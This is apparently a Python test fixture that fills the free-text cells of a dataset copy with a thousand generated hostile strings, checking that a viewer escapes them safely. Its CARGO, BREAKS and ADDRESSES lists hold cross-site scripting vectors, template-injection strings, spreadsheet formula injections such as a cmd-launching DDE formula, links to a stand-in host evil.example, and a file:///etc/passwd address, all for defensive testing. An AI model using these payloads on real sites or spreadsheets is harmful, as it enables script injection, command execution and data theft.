"""A thousand hostile texts, and a copy of the data set whose text cells hold them.

Each text has a number, `h0001` and on, by which a test finds it. What would run as a script calls
`hit(number)`; what would ask the network asks a host that is none.
"""

from __future__ import annotations

import csv
import itertools
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

DATA = Path(__file__).parents[2] / "data" / "ukraine_2022"
HOW_MANY = 1_000
LONG = 100_000

# What a cell may carry in; {n} is the text's number.
CARGO = [
    "<script>hit({n})</script>",
    "<ScRiPt src=//evil.example/{n}></ScRiPt>",
    "<img src=x onerror=hit({n})>",
    "<img/src='http://evil.example/{n}.png'>",
    "<svg onload=hit({n})>",
    "<svg><script>hit({n})</script></svg>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=hit({n})>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<iframe src=javascript:parent.hit({n})></iframe>",
    "<a href='javascript:hit({n})'>press</a>",
    "<details open ontoggle=hit({n})>x</details>",
    "<input autofocus onfocus=hit({n})>",
    "<style>@import 'http://evil.example/{n}.css';*{{display:none}}</style>",
    "<link rel=stylesheet href=http://evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{n}'>",
    "<base href=http://evil.example/{n}/>",
    "<body onload=hit({n}) style=display:none>",
    "<object data=data:text/html,<script>hit({n})</script>></object>",
    "<template><script>hit({n})</script></template>",
    "<table><td background=http://evil.example/{n}>",
    "<!--<script>hit({n})",
    "<plaintext>{n}",
    "<div style='position:fixed;inset:0;background:red'>{n}</div>",
    "&lt;script&gt;hit({n})&lt;/script&gt; &#60;img src=x onerror=hit({n})&#62;",
    "\" onmouseover=hit({n}) onfocus=hit({n}) autofocus x=\"",
    "' onmouseover='hit({n})' onfocus='hit({n})' autofocus x='",
    "javascript:hit({n})",
    "data:text/html,<script>hit({n})</script>",
    "${{hit({n})}}",
    "`+hit({n})+`",
    "'+hit({n})+'",
    '"+hit({n})+"',
    "\\u0027+hit({n})//",
    "\\\\'; hit({n}); //",
    "{{{{ hit({n}) }}}}",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "{{% raw %}}{{{{ 7*7 }}}} {n}",
    "{{0.__class__}} {{}} %s %({n})d {n}",
    "$\\frac{{1}}{{{n}$ and $\\href{{javascript:hit({n})}}{{x}}$",
    "US$ {n} and US$ {n}_1^2",
    "\\(\\unicode{{x3c}}\\) \\begin{{x}}{n}",
    "[press](javascript:hit({n})) ![seen](http://evil.example/{n}.png) **bold** `code`",
    "=cmd|' /C calc'!A{n}",
    "=HYPERLINK(\"http://evil.example/{n}\")",
    "+{n}+1",
    "-{n}-1",
    "@SUM(A{n})",
    "\u202e{n} gnitirw fo noitcerid\u202c \u2066\u200f{n}\u2069",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 {n} \U0001f4a3 e\u0301\u0301\u0301",
]  # fmt: skip
# What a context may be broken out of with; {cargo} follows it.
BREAKS = [
    "{cargo}", "\"{cargo}", "'{cargo}", "`{cargo}", "\">{cargo}", "'>{cargo}",
    "--></script>{cargo}",
    "</title></style></textarea>{cargo}", "</pre></details></iframe></svg>{cargo}",
    "]]>{cargo}", "\\{cargo}", "\\\"{cargo}", "</option></select></button>{cargo}",
    "<![CDATA[{cargo}", "\u2028{cargo}", "\u202e{cargo}", "*/{cargo}", "//\u2029{cargo}",
    "#{cargo}", "%{cargo}",
]  # fmt: skip

POINTERS = {
    "source_ids", "actor_ids", "row_ids", "evidence", "known", "came", "reactions", "done",
    "follows_id", "form", "other_names",
}  # fmt: skip
"""Columns of text that hold ids, and the one list of names that is searched for and not shown."""
ADDRESSES = (
    "javascript:hit(2)", "JaVaScRiPt:hit(2)", " javascript:hit(2)", "data:text/html,<script>hit(2)",
    "vbscript:hit(2)", "file:///etc/passwd", "//evil.example/2",
    "https://e.example/\"onload=hit(2) x=\"",
    "https://e.example/'><script>hit(2)</script>", "http://e.example/`${hit(2)}`",
)  # fmt: skip
"""What stands in the place of the sources' addresses."""
LISTS = ("choices", "answer", "choice_feedback")


def texts() -> list[str]:
    """The thousand texts, each other than all others."""
    pairs = itertools.product(BREAKS, CARGO)
    made = [
        f"h{n:04} " * (n % 3 > 0) + wrap.replace("{cargo}", cargo.format(n=n)) + f" h{n:04}"
        for n, (wrap, cargo) in enumerate(itertools.islice(pairs, HOW_MANY))
    ]
    assert len(set(made)) == HOW_MANY
    return made


def long_texts() -> tuple[str, str]:
    """A hundred thousand characters: one word, and many words."""
    return "h9998" + "W" * (LONG - 5), ("h9999 long words <b> " * LONG)[:LONG]


def text_columns(descriptor: dict) -> dict[str, list[str]]:
    """The columns of each table that hold a free text."""
    return {table["name"]: list(_free(table["schema"])) for table in descriptor["resources"]}


def _free(schema: dict) -> Iterator[str]:
    keys = {name for key in schema.get("foreignKeys", ()) for name in key["fields"]}
    for field in schema["fields"]:
        name, rules = field["name"], field.get("constraints", {})
        plain = field["type"] == "string" and not {"enum", "pattern"} & set(rules)
        if plain and name not in keys | POINTERS and not field.get("separator"):
            yield name


def folder(path: Path, long: bool = False) -> Path:
    """Make a copy of the data set in `path`, every text cell of it hostile.

    With `long` one cell of each column has 100,000 characters as well. Returns the path.
    """
    shutil.copytree(DATA, path, ignore=shutil.ignore_patterns(".studio"))
    descriptor = json.loads((path / "datapackage.json").read_text(encoding="utf-8"))
    endless = itertools.cycle(texts())
    for table, columns in text_columns(descriptor).items():
        file = path / f"{table}.csv"
        with file.open(encoding="utf-8", newline="") as opened:
            reader = csv.DictReader(opened)
            header, rows = reader.fieldnames, list(reader)
        for column in columns:
            for number, row in enumerate(rows):
                row[column] = next(endless)
                if long and number < 2:
                    row[column] = long_texts()[number] + f" {table} {column}"
        if table == "sources":
            for row, address in zip(rows, itertools.cycle(ADDRESSES), strict=False):
                row["url"] = address
        if table == "questions":
            for row in rows:
                _choices(row, endless)
        with file.open("w", encoding="utf-8", newline="") as opened:
            writer = csv.DictWriter(opened, header, lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    return path


def _choices(row: dict[str, str], endless: Iterator[str]) -> None:
    """Hostile choices of a question, each choice the same text wherever it stands."""
    known: dict[str, str] = {}
    for column in LISTS:
        if row["type"] == "number" or (column == "answer" and not row["choices"]):
            continue
        parts = row[column].split("; ") if row[column] else []
        for part in parts:
            known.setdefault(part, next(endless).replace("; ", ";"))
        row[column] = "; ".join(known[part] for part in parts)
